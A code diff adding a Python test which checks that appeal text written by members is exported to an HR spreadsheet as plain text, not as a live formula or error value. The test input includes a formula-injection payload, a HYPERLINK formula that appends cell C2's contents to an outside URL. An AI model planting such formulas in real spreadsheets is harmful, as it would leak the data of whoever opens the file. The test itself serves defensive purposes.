@@ -411,3 +411,36 @@ async def test_the_export_lists_the_months_appeals_with_their_outcomes(db, jgs, 
         "截图属实",
     )
     assert rows[2][9:] == ("驳回（维持）", "成员0002", "2026-11-27 10:00", "证据不足")
+
+
+async def test_an_appeal_written_like_a_formula_stays_text_in_the_export(db, jgs, tmp_path) -> None:
+    """成员写的申诉理由原样进人事的表：以“=”开头的不能变成会计算（会联网、会执行）的公式，
+    像“#N/A”的也不能变成错误值——人事看到的应是成员写的字。"""
+    from openpyxl import load_workbook
+
+    from qungui import export
+
+    formula = '=HYPERLINK("http://example.com/?"&C2,"点此查看截图")'
+    first, second = await entry(), await entry()
+    await appeals.file(
+        jgs,
+        entry_id=first.id,
+        user_id=MEMBER,
+        text=formula,
+        group_id=None,
+        at=NOW,
+        event_key="appeal:formula",
+    )
+    await appeals.file(
+        jgs,
+        entry_id=second.id,
+        user_id=MEMBER,
+        text="#N/A",
+        group_id=None,
+        at=NOW,
+        event_key="appeal:error",
+    )
+    path = await export.write(jgs, "2026-11", [], tmp_path / "out.xlsx")
+    sheet = load_workbook(path)[rules.REVIEW_APPEAL]
+    cells = [sheet.cell(row=row, column=9) for row in (2, 3)]
+    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s"), ("#N/A", "s")]
